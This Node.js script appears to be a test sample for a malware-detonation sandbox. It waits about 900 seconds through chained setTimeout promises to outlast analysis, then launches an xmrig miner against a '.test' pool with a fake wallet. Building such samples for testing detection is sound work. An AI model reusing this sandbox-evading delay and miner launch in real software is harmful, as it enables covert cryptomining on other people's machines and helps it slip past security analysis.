#!/usr/bin/node
// Waits about 900 s as a recursive promise chain of 90,000 setTimeout(resolve, 10) links (each
// link's .then starts the next), then spawns the miner stand-in (detonate hold-out test sample;
// harmless, fake wallet, .test pool).
"use strict";
const { spawn } = require("child_process");

const ROUNDS = Math.floor(90000 / Number(process.env.NODESHORT_SCALE || 1));
const MINER = process.env.NODESHORT_MINER || "/usr/local/bin/xmrig";
const POOL = "stratum+tcp://pool.short.test:3333";
const WALLET =
  "47sh0rtSt3psFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX";

function countdown(left) {
  if (left <= 0) return Promise.resolve();
  return new Promise((resolve) => setTimeout(resolve, 10)).then(() => countdown(left - 1));
}

console.log(`waiting 900 s in ${ROUNDS} chained setTimeout(10) rounds`);
const started = Date.now();
countdown(ROUNDS).then(() => {
  console.log(`waited ${((Date.now() - started) / 1000).toFixed(1)} s; starting the miner`);
  spawn(MINER, ["-o", POOL, "-u", WALLET, "--shares", "1"], { stdio: "inherit" }).on(
    "exit",
    (code) => process.exit(code ?? 1),
  );
});
